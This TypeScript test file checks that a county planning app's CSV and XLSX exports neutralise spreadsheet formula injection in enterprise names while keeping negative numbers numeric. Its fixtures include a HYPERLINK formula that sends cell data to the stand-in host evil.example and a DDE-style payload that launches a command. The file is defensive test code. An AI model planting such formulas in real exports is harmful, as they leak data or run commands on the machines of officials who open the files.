/**
 * CSV formula injection (OWASP): what a county official opens in a spreadsheet must not run what someone typed as an
 * enterprise name. Every text cell the server writes to CSV that starts with =, +, -, @, a tab or a carriage return is
 * neutralised; numbers stay numbers, negative ones included.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { Role } from '../src/auth/principal';
import { RequestDatabase } from '../src/db/request-database';
import { csvField, csvTextField } from '../src/export/csv';
import { exportTable, ExportTable } from '../src/export/export-tables';
import { toCsv, toXlsx, XLSX_HEADER_ROW } from '../src/export/formats';
import { Context, NO_FIGURE_CACHE } from '../src/graphql/context';
import { Loaders } from '../src/graphql/loaders';
import { givenCounty, givenEnterprise, givenPlan } from './support/builders';
import { createTestApi, principal, TestApi } from './support/test-api';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const NAMES = [HYPERLINK, SUM, '+86-23-7461（示例）', '-2+3', '示例企业 =1'];

let api: TestApi;

beforeAll(async () => {
  api = await createTestApi();
  await givenCounty(api, '500231', '垫江县');
  await givenPlan(api, { countyCode: '500231', targets: { HIGH_TECH: 1 } });
  for (const [i, name] of NAMES.entries()) {
    await givenEnterprise(api, { serial: i + 1, name, memberships: [{ category: 'HIGH_TECH', validFrom: '2024-01-01' }] });
  }
});
afterAll(() => api.close());

async function gapTable(): Promise<ExportTable> {
  const who = principal({ role: Role.VIEWER, counties: ['500231'] });
  const db = new RequestDatabase(api.dataSource, {}, who);
  const ctx: Context = { db, loaders: new Loaders(), today: '2025-01-01', principal: who, figures: NO_FIGURE_CACHE };
  try {
    return await exportTable(ctx, { countyCode: '500231', kind: 'gaps', asOf: '2024-06-30' });
  } finally {
    await db.finish(false);
  }
}

const formulaStart = /^[=+\-@\t\r]/;

describe('the gap list as CSV', () => {
  it('writes an enterprise named =HYPERLINK(…) or @SUM(…) as text, with an apostrophe in front, and keeps the name readable', async () => {
    const fields: string[][] = parse(
      toCsv(await gapTable())
        .toString('utf8')
        .slice(1),
      { relaxColumnCount: false },
    );
    const names = fields.slice(1).map((row) => row[1]);
    expect(names.sort()).toEqual([`'${HYPERLINK}`, `'${SUM}`, "'+86-23-7461（示例）", "'-2+3", '示例企业 =1'].sort());
    for (const row of fields) for (const cell of row) expect(cell).not.toMatch(formulaStart);
    // the other columns are as before: counts as numbers
    expect(fields.slice(1).map((row) => row.slice(4, 7))).toEqual(NAMES.map(() => ['1', '0', '1']));
  });

  it('quotes a neutralised cell, so a comma or quote inside it stays inside', () => {
    const line = toCsv(tableOf([[HYPERLINK, 1]]))
      .toString('utf8')
      .split('\r\n')[1];
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")",1`);
  });

  it('in XLSX keeps such a name a string cell, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(await gapTable())) as never);
    const sheet = workbook.worksheets[0];
    const cells = NAMES.map((_, i) => sheet.getRow(XLSX_HEADER_ROW + 1 + i).getCell(2));
    expect(cells.map((cell) => cell.type)).toEqual(NAMES.map(() => ExcelJS.ValueType.String));
    expect(cells.map((cell) => cell.value).sort()).toEqual([...NAMES].sort());
  });
});

/** A table of one text and one number column. */
function tableOf(rows: (string | number | null)[][], kind: 'number' | 'percent' | 'integer' = 'number'): ExportTable {
  return {
    kind: 'indicators',
    countyCode: '500231',
    countyName: '垫江县',
    asOf: '2024-06-30',
    title: 't',
    sheetName: 's',
    columns: [
      { header: '名称', kind: 'text', width: 10 },
      { header: '值', kind, width: 10 },
    ],
    rows,
    notes: [],
    fileName: 'f',
  };
}

describe('numbers', () => {
  it('stay numbers: a negative amount, ratio or percentage is written as the number it is', () => {
    const lines = (table: ExportTable) => toCsv(table).toString('utf8').slice(1).split('\r\n').slice(1, -1);
    expect(lines(tableOf([['降幅', -3.5]]))).toEqual(['降幅,-3.5']);
    expect(lines(tableOf([['增速', -0.253]], 'percent'))).toEqual(['增速,-25.3%']);
    expect(lines(tableOf([['差额', -12]], 'integer'))).toEqual(['差额,-12']);
    // the same characters as text are neutralised: a text column holds text
    expect(lines(tableOf([['-3.5', 1]]))).toEqual([`"'-3.5",1`]);
  });
});

describe('one CSV field (exports and the import report)', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@A1', `"'@A1"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['a=1', 'a=1'],
    ['甲公司, "示例"', '"甲公司, ""示例"""'],
    ['', ''],
  ])('%j is written %j', (text, field) => {
    expect(csvTextField(text)).toBe(field);
    expect(csvField(text)).toBe(field);
  });

  it('writes numbers and nothing as they are', () => {
    expect([csvField(-7), csvField(12), csvField(null)]).toEqual(['-7', '12', '']);
  });
});
